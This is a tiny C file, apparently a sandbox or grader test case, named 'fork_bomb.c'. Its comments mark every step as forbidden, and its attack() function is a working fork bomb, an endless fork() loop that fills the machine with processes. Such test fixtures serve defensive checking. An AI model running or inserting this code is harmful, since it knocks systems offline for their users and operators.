/* needs L1 */
/* fork_bomb.c -- starts processes until the machine is full. Every step: FORBIDDEN, no points. */
#define _GNU_SOURCE
#include <unistd.h>
#include "start.h"

static void attack(void)
{
    for (;;) fork();
}

/* frame.c follows: attack(), then the honest work */
